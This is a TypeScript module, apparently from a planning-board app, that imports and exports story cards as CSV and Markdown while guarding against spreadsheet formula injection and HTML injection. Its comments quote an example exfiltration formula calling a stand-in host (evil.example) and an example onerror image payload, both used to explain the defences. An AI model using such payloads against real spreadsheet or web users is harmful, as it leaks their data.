import Papa from 'papaparse';
import { CSV_MAX_BYTES, CSV_MAX_ROWS } from '../api.js';
import {
  ESTIMATES,
  PRIORITY_LABELS,
  STATUS_LABELS,
  defaultStoryCardProps,
  estimatePoints,
  type CardStatus,
  type Estimate,
  type Priority,
  type StoryCardProps,
} from './story-card.js';
import { storyCardPropsValidator } from './story-card-validators.js';
import { formatTotal, type PlanningModel } from './structure.js';
import { stripControlCharacters } from '../text.js';

/**
 * CSV import and export of story cards. Import recognises the columns of Jira and Linear
 * exports (and of Planboard's own export, so that export → import keeps every field).
 */

export class CsvFormatError extends Error {}

type Field = 'title' | 'description' | 'estimate' | 'status' | 'assignee' | 'labels' | 'priority' | 'votes' | 'externalKey';

/** Header (lower case) → field. Jira: "Summary", "Issue key", "Custom field (Story Points)"; Linear: "Title", "ID", "Estimate". */
const HEADERS: Record<string, Field> = {
  summary: 'title',
  title: 'title',
  name: 'title',
  description: 'description',
  'story points': 'estimate',
  'story point estimate': 'estimate',
  'custom field (story points)': 'estimate',
  'custom field (story point estimate)': 'estimate',
  estimate: 'estimate',
  points: 'estimate',
  status: 'status',
  state: 'status',
  assignee: 'assignee',
  labels: 'labels',
  label: 'labels',
  priority: 'priority',
  votes: 'votes',
  'issue key': 'externalKey',
  key: 'externalKey',
  id: 'externalKey',
  identifier: 'externalKey',
};

const STATUS_WORDS: Record<string, CardStatus> = {
  todo: 'todo', 'to do': 'todo', backlog: 'todo', open: 'todo', new: 'todo', triage: 'todo', 'selected for development': 'todo', unstarted: 'todo',
  'in progress': 'in-progress', 'in-progress': 'in-progress', started: 'in-progress', 'in review': 'in-progress', review: 'in-progress', doing: 'in-progress', 'in development': 'in-progress',
  done: 'done', closed: 'done', resolved: 'done', completed: 'done', canceled: 'done', cancelled: 'done', duplicate: 'done',
  blocked: 'blocked', 'on hold': 'blocked',
};

const PRIORITY_WORDS: Record<string, Priority> = {
  '': 'none', none: 'none', 'no priority': 'none',
  lowest: 'low', low: 'low', minor: 'low', trivial: 'low',
  medium: 'medium', normal: 'medium',
  high: 'high', major: 'high',
  highest: 'urgent', urgent: 'urgent', critical: 'urgent', blocker: 'urgent',
};

const NUMERIC_ESTIMATES = ESTIMATES.filter((e) => e !== 'none' && e !== '?').map(Number);

export interface SkippedRow {
  /** 1-based number of the row in the file, the header being row 1 (a quoted multi-line cell is one row). */
  row: number;
  reason: string;
}

export interface CsvImport {
  cards: StoryCardProps[];
  /** The file row of each card (same order as `cards`), for joining columns read elsewhere. */
  cardRows: number[];
  skipped: SkippedRow[];
  /** Values that were adjusted to fit (an estimate rounded up to the scale, an unknown status). */
  warnings: SkippedRow[];
  /** Which file columns were used, e.g. `{ Summary: 'title' }`. */
  columns: Record<string, Field>;
}

function toEstimate(raw: string): { value: Estimate; warning?: string } {
  const text = raw.trim();
  if (text === '' || text.toLowerCase() === 'none') return { value: 'none' };
  if (text === '?') return { value: '?' };
  const points = Number(text.replace(',', '.'));
  if (!Number.isFinite(points) || points < 0) return { value: 'none', warning: `estimate "${text}" is not a number; left unestimated` };
  const fitted = NUMERIC_ESTIMATES.find((e) => e >= points);
  if (fitted === undefined) return { value: '21', warning: `estimate ${text} is above 21; set to 21` };
  return fitted === points ? { value: String(fitted) as Estimate } : { value: String(fitted) as Estimate, warning: `estimate ${text} rounded up to ${fitted}` };
}

/**
 * Parses a CSV export into card props. Throws `CsvFormatError` for a file that cannot be used at
 * all (so nothing is half-imported); rows that cannot become a card are skipped with a reason.
 */
export function parseCardsCsv(text: string): CsvImport {
  if (text.length > CSV_MAX_BYTES) throw new CsvFormatError(`the file is larger than ${CSV_MAX_BYTES / 1024 / 1024} MiB`);
  const parsed = Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { skipEmptyLines: 'greedy' });
  const fatal = parsed.errors.find((e) => e.type === 'Quotes');
  if (fatal) throw new CsvFormatError(`line ${(fatal.row ?? 0) + 1}: ${fatal.message}`);
  const [header, ...rows] = parsed.data;
  if (!header || header.every((cell) => cell.trim() === '')) throw new CsvFormatError('the file is empty: expected a header row and one row per card');
  if (rows.length > CSV_MAX_ROWS) throw new CsvFormatError(`the file has ${rows.length} rows; at most ${CSV_MAX_ROWS} can be imported at once`);

  const columns: Record<string, Field> = {};
  const fieldOf = header.map((cell) => {
    const field = HEADERS[cell.trim().toLowerCase()] ?? null;
    if (field) columns[cell.trim()] = field;
    return field;
  });
  if (!fieldOf.includes('title')) {
    throw new CsvFormatError(`no title column: expected one named Summary (Jira) or Title (Linear); found ${header.map((h) => `"${h.trim()}"`).join(', ')}`);
  }

  const cards: StoryCardProps[] = [];
  const cardRows: number[] = [];
  const skipped: SkippedRow[] = [];
  const warnings: SkippedRow[] = [];
  rows.forEach((cells, i) => {
    const row = i + 2;
    const card = defaultStoryCardProps();
    const labels = new Set<string>();
    if (cells.length > header.length && cells.slice(header.length).some((c) => c.trim() !== '')) {
      skipped.push({ row, reason: `${cells.length} cells but the header has ${header.length}` });
      return;
    }
    cells.forEach((cell, column) => {
      const raw = unescapeFormula(cell);
      const value = stripControlCharacters(raw).trim();
      switch (fieldOf[column]) {
        case 'title':
          if (!card.title) card.title = value;
          break;
        case 'description':
          card.description = stripControlCharacters(raw, { multiline: true }).trim();
          break;
        case 'estimate': {
          const { value: estimate, warning } = toEstimate(value);
          card.estimate = estimate;
          if (warning) warnings.push({ row, reason: warning });
          break;
        }
        case 'status': {
          const status = STATUS_WORDS[value.toLowerCase()];
          if (status) card.status = status;
          else if (value) warnings.push({ row, reason: `status "${value}" is not known; set to To do` });
          break;
        }
        case 'assignee':
          card.assignee = value;
          break;
        case 'labels':
          for (const label of value.split(',')) if (label.trim()) labels.add(label.trim());
          break;
        case 'priority': {
          const priority = PRIORITY_WORDS[value.toLowerCase()];
          if (priority) card.priority = priority;
          else warnings.push({ row, reason: `priority "${value}" is not known; set to No priority` });
          break;
        }
        case 'votes': {
          const votes = Number(value || 0);
          if (Number.isInteger(votes) && votes >= 0) card.votes = votes;
          else warnings.push({ row, reason: `votes "${value}" is not a whole number; set to 0` });
          break;
        }
        case 'externalKey':
          card.externalKey = value;
          break;
        default:
          break;
      }
    });
    card.labels = [...labels];
    if (!card.title) {
      skipped.push({ row, reason: 'no title' });
      return;
    }
    try {
      storyCardPropsValidator.validate(card);
    } catch (error) {
      skipped.push({ row, reason: (error as Error).message });
      return;
    }
    cards.push(card);
    cardRows.push(row);
  });
  return { cards, cardRows, skipped, warnings, columns };
}

/**
 * Spreadsheet formula injection (OWASP "CSV Injection"): Excel, LibreOffice and Sheets run a
 * cell that starts with =, +, - or @ (and, after a tab or CR, whatever follows) as a formula,
 * so a card titled `=HYPERLINK("https://evil.example/?"&A1)` would leak the sheet to whoever
 * opens a view link's export. Such cells are written with a leading apostrophe (and quoted),
 * which spreadsheets show as text. A cell that already starts with apostrophes before one of
 * those characters gets one more, so that import can remove exactly one and every value,
 * "=tbd", "-1 day buffer" and "'=x" alike, comes back as it was exported.
 */
const FORMULA_START = /^'*[=+\-@\t\r]/;

/** The cell as it was before `cardsToCsv` neutralised it (one apostrophe less before a formula character). */
function unescapeFormula(cell: string): string {
  return FORMULA_START.test(cell) && cell.startsWith("'") ? cell.slice(1) : cell;
}

export const EXPORT_COLUMNS = ['Key', 'Title', 'Description', 'Estimate', 'Status', 'Assignee', 'Labels', 'Priority', 'Votes', 'Lane'] as const;

function laneNames(model: PlanningModel): Map<string, string> {
  return new Map(model.lanes.map((lane) => [lane.id, lane.name]));
}

/** Every card of the board, one row each, in the columns `parseCardsCsv` reads back. */
export function cardsToCsv(model: PlanningModel): string {
  const lanes = laneNames(model);
  const line = (text: string) => stripControlCharacters(text);
  const rows = model.cards.map(({ props, laneId }) => [
    line(props.externalKey),
    line(props.title),
    stripControlCharacters(props.description, { multiline: true }),
    props.estimate === 'none' ? '' : props.estimate,
    STATUS_LABELS[props.status],
    line(props.assignee),
    line(props.labels.join(', ')),
    PRIORITY_LABELS[props.priority],
    String(props.votes),
    line(laneId ? (lanes.get(laneId) ?? '') : ''),
  ]);
  return Papa.unparse({ fields: [...EXPORT_COLUMNS], data: rows }, { newline: '\n', escapeFormulae: FORMULA_START });
}

const HTML_ENTITIES: Record<string, string> = { '&': '&amp;', '<': '&lt;', '>': '&gt;' };

/**
 * Text as one Markdown table cell or heading: no control characters or line breaks, pipes
 * escaped, and raw HTML escaped (`<img src=x onerror=…>` shows as text in any renderer).
 */
const cell = (text: string) => stripControlCharacters(text).replace(/[&<>]/g, (c) => HTML_ENTITIES[c]!).replace(/\|/g, '\\|');

/** The cards grouped by lane, as Markdown tables under a heading per lane with its total. */
export function cardsToMarkdown(model: PlanningModel, boardTitle: string): string {
  const out: string[] = [`# ${cell(boardTitle)}`, ''];
  const groups: { name: string; total: string; laneId: string | null }[] = [
    ...[...model.lanes].sort((a, b) => a.box.y - b.box.y || a.box.x - b.box.x).map((lane) => ({ name: lane.name || 'Untitled lane', total: formatTotal(model.laneTotals.get(lane.id)!), laneId: lane.id as string | null })),
    { name: 'Not in a lane', total: formatTotal(model.unplaced), laneId: null },
  ];
  for (const group of groups) {
    const cards = model.cards.filter((card) => card.laneId === group.laneId);
    if (cards.length === 0 && group.laneId === null) continue;
    out.push(`## ${cell(group.name)} (${group.total})`, '');
    if (cards.length === 0) {
      out.push('_No cards._', '');
      continue;
    }
    out.push('| Key | Title | Estimate | Status | Assignee | Labels |', '| --- | --- | ---: | --- | --- | --- |');
    for (const { props } of cards) {
      out.push(`| ${cell(props.externalKey)} | ${cell(props.title)} | ${props.estimate === 'none' ? '' : props.estimate} | ${STATUS_LABELS[props.status]} | ${cell(props.assignee)} | ${cell(props.labels.join(', '))} |`);
    }
    out.push('');
  }
  const total = model.cards.reduce((sum, card) => sum + estimatePoints(card.props.estimate), 0);
  out.push(`${model.cards.length} cards, ${total} points in all.`, '');
  if (model.invalid.length > 0) {
    const count = model.invalid.length;
    out.push(`_${count} ${count === 1 ? 'record' : 'records'} of the board could not be read and ${count === 1 ? 'is' : 'are'} not listed._`, '');
  }
  return out.join('\n');
}

